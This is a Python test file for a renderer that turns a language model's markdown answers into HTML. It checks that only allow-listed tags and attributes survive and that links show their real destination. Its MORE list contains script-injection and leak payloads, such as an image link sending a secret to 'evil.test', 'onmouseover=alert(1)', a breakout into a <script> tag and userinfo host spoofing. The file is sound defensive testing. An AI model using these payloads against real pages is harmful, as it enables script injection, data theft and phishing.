"""Answers of a language model as HTML: nothing gets through that could run, fetch, style, name or send anything."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipulate.ui.assistant.prose import finished, prose
from pipulate.ui.html import div
from tests.unit.ui.test_html import Parsed
from tests.unit.ui.test_markdown import PAYLOADS

TAGS = {
    "a", "bdi", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
MORE = [
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](/%5Cevil.test)",
    "[x](\\\\evil.test)",
    "![leak](https://evil.test/?q=secret)",
    "[![a](https://evil.test/1)](https://evil.test/2)",
    '[x](https://evil.test "<pre><code>")',
    '```"onmouseover=alert(1)\nx\n```',
    "```x class=y id=z\nx\n```",
    "<https://evil.test/<script>>",
    "[x](https://user@evil.test/)",
    "</code></pre><script>alert(1)</script>",
    "`</code></pre><table>`",
    "| <table> |\n|---|\n| </table> |",
]
STYLED = {"class": re.compile(r"(language-[\w+#.-]+|copied code-box|code-head|quiet|code|scrolls|text)")}


@pytest.mark.parametrize("payload", [*PAYLOADS, *MORE])
@pytest.mark.parametrize("around", ["{}", "- a\n- {}", "> {}", "Text {} text", "| a |\n|---|\n| {} |"])
def test_nothing_harmful_gets_through(payload: str, around: str) -> None:
    seen = Parsed(prose(around.format(payload)))
    assert set(seen.tags) <= TAGS, seen.tags
    for name, value in seen.attributes:
        if name == "href":
            assert re.fullmatch(r"(https?://|mailto:|/(?![/\\]|%5[cC])).*", str(value)), value
        elif name == "class":
            assert STYLED["class"].fullmatch(str(value)), value
        else:
            assert (name, value) in {
                ("rel", "noopener noreferrer nofollow"), ("target", "_blank"), ("type", "button"),
                ("data-copies", "text"), ("data-needs", "code"), ("tabindex", "0"), ("role", "group"),
                ("aria-label", "Table"), ("dir", "auto"),
            } or (name == "start" and str(value).isdigit()) or name == "align", (name, value)  # fmt: skip


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("[here](https://evil.test/x)", "here (evil.test)"),
        ("[https://bank.test](https://evil.test)", "https://bank.test (evil.test)"),
        ("[bank](https://bank.test@evil.test/)", "bank (evil.test)"),
        ("![chart](https://evil.test/a.png)", "Picture: chart (evil.test)"),
        ("<https://own.test/x>", "https://own.test/x"),
        ("[mail](mailto:a@evil.test)", "mail (evil.test)"),
        ("[run](/hello/01)", "run"),
    ],
)
def test_link_says_where_it_leads(markdown: str, text: str) -> None:
    assert Parsed(prose(markdown)).text.strip() == text


def test_tags_of_its_own_are_shown_as_what_they_are() -> None:
    assert Parsed(prose("<b>bold</b> & <i>more</i>")).text.strip() == "<b>bold</b> & <i>more</i>"


def test_headings_stand_below_the_panels_own() -> None:
    assert [tag for tag in Parsed(prose("# a\n\n## b\n\n### c\n\n#### d\n\n###### e")).tags if tag != "div"] == [
        "h3", "h4", "h5", "h6", "h6",
    ]  # fmt: skip


def test_code_has_its_language_and_a_button_to_copy_it_and_tables_scroll() -> None:
    made = prose("```python\nx\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |")
    assert ("class", "language-python") in Parsed(made).attributes
    assert "Copy" in Parsed(made).text
    assert ("class", "scrolls") in Parsed(made).attributes
    assert ("align", "right") in Parsed(made).attributes


BLOCKS = st.lists(
    st.sampled_from(
        [
            "A paragraph of words.", "# Title", "- one\n- two", "1. a\n   ```\n   x\n   ```\n2. b",
            "```python\nx = 1\n\ny\n```",
            "| a | b |\n|---|---|\n| 1 | 2 |", "> quote\nlazy", "Setext\n---", "***", "    code", "🙂 *emoji* `code`",
            "<b>no tag</b>", "[link](https://example.org)",
        ]
    ),
    max_size=8,
)  # fmt: skip


@given(BLOCKS, st.integers(1, 9))
def test_what_was_finished_early_is_what_the_whole_begins_with(blocks: list[str], step: int) -> None:
    """A page keeps what was drawn while the answer grew; it must be what the whole answer looks like."""
    text, frozen, tail = "\n\n".join(blocks), "", ""
    for start in range(0, len(text), step):
        tail += text[start : start + step]
        length = finished(tail)
        frozen += prose(tail[:length]) if length else ""
        tail = tail[length:]
    assert (frozen + (prose(tail) if tail else "")).replace("\n", "") == prose(text).replace("\n", "")


@pytest.mark.parametrize(
    "open_text", ["A paragraph\nthat goes on", "```\nx\n\ny\n", "- a\n\n- b\n", "| a |\n|---|\n| b |\n"]
)
def test_block_that_may_still_change_is_not_finished(open_text: str) -> None:
    assert finished(open_text) == 0
    assert finished("Before.\n\n" + open_text) == len("Before.\n\n")


def test_long_text_is_shown_as_it_is() -> None:
    text = "# x " * 30_000
    assert prose(text) == div(text, class_="text", dir="auto")
